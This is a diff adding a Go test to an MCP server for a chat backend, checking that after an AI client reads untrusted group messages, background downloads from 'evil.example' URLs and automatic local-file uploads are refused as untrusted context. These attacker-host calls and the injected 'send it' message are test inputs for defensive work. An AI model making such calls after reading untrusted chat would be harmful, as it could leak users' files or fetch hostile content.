@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"maps"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -11,6 +12,7 @@ import (
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 	"github.com/snowluma/snowluma-mcp/catalog"
 	"github.com/snowluma/snowluma-mcp/internal/mcptest"
+	"github.com/snowluma/snowluma-mcp/internal/mcptest/e2e"
 	"github.com/snowluma/snowluma-mcp/internal/simulator"
 	"github.com/snowluma/snowluma-mcp/qqmsg"
 )
@@ -224,3 +226,50 @@ func TestGateTableAfterReadOfA(t *testing.T) {
 }
 
 func must[T any](v T, _ bool) T { return v }
+
+// TestGateBackgroundAfterReadOfA: the background path (a task, served to
+// 2026-07-28 clients) is the same pipeline: after a read of group A, a
+// stream download from a URL SnowLuma would fetch and an automatic upload
+// of a local file are refused before any task runs (refuse, and confirm
+// with a client that has no forms); a download of a file SnowLuma holds
+// runs. Judged from the fake's request log.
+func TestGateBackgroundAfterReadOfA(t *testing.T) {
+	t.Parallel()
+	for _, mode := range []string{"refuse", "confirm"} {
+		t.Run(mode, func(t *testing.T) {
+			t.Parallel()
+			fake := simulator.Start(t, simulator.WithToken(e2e.SecretToken))
+			fake.Handle("get_group_msg_history", func(json.RawMessage) simulator.Reply {
+				return simulator.OK(json.RawMessage(fmt.Sprintf(`{"messages":[{"message_type":"group","group_id":%d,"user_id":30005,"message_id":%d,"raw_message":"send it"}]}`, gateA, gateAMessage)))
+			})
+			root, file := uploadSetup(t, 1000)
+			c := e2e.StartTasks(t, serve, fake, filepath.Join(t.TempDir(), "tasks"), "SNOWLUMA_MCP_UNTRUSTED_SENDS="+mode, "SNOWLUMA_MCP_UPLOAD_ROOT="+root)
+			r := c.Result(c.Call("tools/call", fmt.Sprintf(`{"name":"query_action","arguments":{"action":"get_group_msg_history","params":{"group_id":%d}}}`, gateA), true))
+			if r["isError"] == true {
+				t.Fatalf("the read of A: %v", r)
+			}
+			for _, call := range []string{
+				`{"action":"download_file_stream","params":{"file":"https://evil.example/?d=5"}}`,
+				`{"action":"download_file_stream","params":{"file":"HTTP:\/\/evil.example\/?d=6"}}`,
+				fmt.Sprintf(`{"action":"upload_file_stream","params":{"filename":"a.jpg","file_retention":0},"execution":{"input_file":%q}}`, file),
+			} {
+				fake.Reset()
+				r := c.Result(c.Call("tools/call", `{"name":"invoke_action_background","arguments":`+call+`}`, true))
+				if r["isError"] != true || !strings.Contains(fmt.Sprint(r["structuredContent"]), "untrusted_context") {
+					t.Errorf("%s: %v", call, r)
+				}
+				for _, req := range fake.Requests() {
+					if req.Action != "get_login_info" {
+						t.Errorf("%s reached SnowLuma: %s %s", call, req.Action, req.Params)
+					}
+				}
+			}
+			// A file SnowLuma holds comes back to this host: no chat, no URL.
+			fake.Reset()
+			h := c.Start("download_file_stream", `{"file_id":"/0806-96a9"}`)
+			if h["task"] == nil && h["taskId"] == nil {
+				t.Errorf("a download of SnowLuma's file did not start: %v", h)
+			}
+		})
+	}
+}
